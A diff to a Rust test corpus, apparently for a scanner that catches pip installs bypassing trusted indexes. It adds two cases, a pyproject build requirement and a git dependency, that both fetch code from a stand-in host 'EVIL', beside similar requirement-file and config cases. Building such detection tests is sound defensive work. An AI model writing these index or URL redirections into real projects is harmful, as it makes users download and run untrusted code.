@@ -219,6 +219,8 @@ fn bypass_corpus() -> Vec<Bypass> {
         b("PIP_CONFIG_FILE install section", "pip", &["install", "six"], &[("PIP_CONFIG_FILE", "ALT_PIPCONF")], &[("ALT_PIPCONF", "[install]\nextra-index-url =\n    EVIL/simple\n")], "ALT_PIPCONF:2"),
         b("PIP_CONSTRAINT file's index", "pip", &["install", "six"], &[("PIP_CONSTRAINT", "cons.txt")], &[("work/cons.txt", "--extra-index-url EVIL/simple\n")], "cons.txt:1"),
         b("PIP_REQUIREMENT file's URL", "pip", &["install", "six"], &[("PIP_REQUIREMENT", "a.txt req.txt")], &[("work/a.txt", "six\n"), ("work/req.txt", "six @ EVIL/six.whl\n")], "req.txt:1"),
+        b("pip install . whose build-system requires a URL", "pip", &["install", "."], &[], &[("work/pyproject.toml", "[project]\nname = \"app\"\nversion = \"0.1\"\n\n[build-system]\nrequires = [\"setuptools @ EVIL/setuptools-70.0-py3-none-any.whl\"]\nbuild-backend = \"setuptools.build_meta\"\n")], "pyproject.toml:6"),
+        b("pip install -e DIR with a git dependency", "pip", &["install", "-e", "sub"], &[], &[("work/sub/pyproject.toml", "[project]\nname = \"sub\"\nversion = \"0.1\"\ndependencies = [\"six @ git+EVIL/six.git\"]\n")], "sub/pyproject.toml:4"),
         // pip: requirement files.
         b("requirements -i", "pip", &["install", "-r", "req.txt"], &[], &[("work/req.txt", "-i EVIL/simple\nsix\n")], "req.txt:1"),
         b("requirements --extra-index-url", "pip", &["install", "-r", "req.txt"], &[], &[("work/req.txt", "six\n--extra-index-url EVIL/simple\n")], "req.txt:2"),
